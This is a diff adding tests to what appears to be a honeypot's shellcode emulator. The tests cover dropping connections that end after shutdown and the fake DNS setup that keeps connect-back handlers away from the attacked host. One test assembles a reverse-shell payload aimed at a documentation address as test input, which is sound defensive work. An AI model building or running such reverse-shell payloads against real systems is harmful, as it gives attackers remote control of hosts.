@@ -234,3 +234,33 @@ def test_get_computer_name_answers_the_identity() -> None:
     out = pool.run(pool.context(), windows_of(assemble(computer_name_url())), 5.0, 5000, 10.0)
     [url] = out.results[0]["offers"]
     assert "speakeasy" not in url.lower() and len(url) > len("http://")
+
+
+def test_a_connection_ending_after_close_is_dropped(tmp_path: Path) -> None:
+    """Connections may end after the emulator closed (the engine waits for them only so
+    long): their jobs are dropped, and nothing stays counted as pending."""
+    bus = Recorder()
+    store = Store(tmp_path / "binaries", 1 << 20, 1 << 24)
+
+    async def main() -> Emulator:
+        emu = Emulator(Shellcode(), store, bus)  # type: ignore[arg-type]
+        await emu.close()
+        emu.scan(conn(1), transcript(assemble(reverse_shell("192.0.2.7", 4444))))
+        return emu
+
+    emu = asyncio.run(main())
+    assert emu.pending == 0 and not emu._per_source
+    assert emu.counters()["detected"] == 1 and emu.counters()["dropped"] == 1
+
+
+def test_the_machine_address_is_ipv4_and_names_resolve_elsewhere() -> None:
+    from muscipula.capture.shellcode import _ipv4
+    from muscipula.capture.shellcode.worker import _config
+
+    assert _ipv4("192.0.2.5") == "192.0.2.5" and _ipv4("::ffff:192.0.2.5") == "192.0.2.5"
+    assert _ipv4("2001:db8::5") is None and _ipv4("not an address") is None
+    names = _config(5.0, 5000, {"hostname": "FILESRV02", "address": "192.0.2.5"})[
+        "network"]["dns"]["names"]
+    assert names["FILESRV02"] == "192.0.2.5"
+    # a looked-up handler is never the attacked host itself (a connect-back would loop)
+    assert names["default"] != "192.0.2.5" and names["default"].startswith("10.")
